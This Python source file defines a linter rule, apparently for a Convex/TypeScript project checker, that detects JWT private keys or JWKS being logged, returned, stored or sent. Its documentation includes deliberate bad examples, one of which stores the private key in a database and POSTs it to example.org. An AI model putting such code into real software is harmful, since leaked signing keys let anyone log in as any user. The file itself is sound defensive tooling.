"""Never log, return, store or send the keys that log people in.

Whoever has JWT_PRIVATE_KEY can log in as anyone. JWKS is its public half, and is served to
those who need it by the auth routes alone; it isn't shown anywhere else either. A pair that got out
is replaced by a person with `%vly keys jwt --new`.

Bad

```ts path=src/convex/debug.ts severity=error
import { query } from "./_generated/server";

export const keys = query({
  args: {},
  handler: async () => {
    console.log(process.env.JWT_PRIVATE_KEY);
    return process.env.JWKS;
  },
});
```

```ts path=src/convex/backup.ts severity=error
import { internalMutation } from "./_generated/server";

export const save = internalMutation({
  args: {},
  handler: async (ctx) => {
    const { JWT_PRIVATE_KEY: key } = process.env;
    await ctx.db.insert("backups", { key });
    await fetch("https://example.org", { method: "POST", body: key });
  },
});
```

Good

```ts path=src/convex/auth.ts
import { convexAuth } from "@convex-dev/auth/server";

// the auth files may read them to validate
if (!process.env.JWT_PRIVATE_KEY) throw new Error("JWT_PRIVATE_KEY is not set");
export const { auth, signIn, signOut, store } = convexAuth({ providers: [] });
```

```ts path=src/convex/health.ts
import { internalQuery } from "./_generated/server";

// whether they are there may be told
export const ready = internalQuery({
  args: {},
  handler: async () => ({ jwt: process.env.JWT_PRIVATE_KEY !== undefined, jwks: !!process.env.JWKS }),
});
```
"""

from __future__ import annotations

from collections.abc import Iterator

from ast_grep_py import SgNode

from vly_nb.diagnostics import Severity
from vly_nb.policy.functions import arguments, ctx_calls, within
from vly_nb.policy.rule import Context, Finding, Rule
from vly_nb.policy.secrets import JWT_KEYS, Sink, aliases, environment, gives_value, sinks
from vly_nb.policy.source import Source

_STORES = ("db.insert", "db.patch", "db.replace", "runQuery", "runMutation", "runAction")


def check(source: Source, context: Context) -> Iterator[Finding]:
    """Every place where the value of one of the two keys goes on."""
    reads = [read for read in environment(source) if read.name in JWT_KEYS]
    ends = [*sinks(source), *_more(source)] if reads else []
    said: set[int] = set()
    for read in reads:
        for place in aliases(source, read):
            sink = next((s for s in ends if within(place, s.node) and gives_value(place, s.node)), None)
            if sink is not None and place.range().start.index not in said:
                said.add(place.range().start.index)
                public = " JWKS is public by design, and served by the auth routes alone."
                more = public if read.name == "JWKS" else ""
                yield Finding(place, f"This {sink.words} {read.name}. {_NEVER}{more}")


def _more(source: Source) -> Iterator[Sink]:
    for call in ctx_calls(source, *_STORES):
        yield from (Sink(one, "stores or passes on") for one in call.arguments)
    fetched: list[SgNode] = list(source.calls_of("fetch"))
    for node in fetched:
        yield from (Sink(one, "sends") for one in arguments(node))


_NEVER = "Never log, return, store or send the JWT keys; a person makes a new pair with `%vly keys jwt`."

RULE = Rule(
    id="jwt-key-leak",
    area="env-secrets",
    severity=Severity.ERROR,
    scope=("<fn>/**/*.ts",),
    needs=JWT_KEYS,
    message=_NEVER,
    check=check,
    page=__doc__,
)
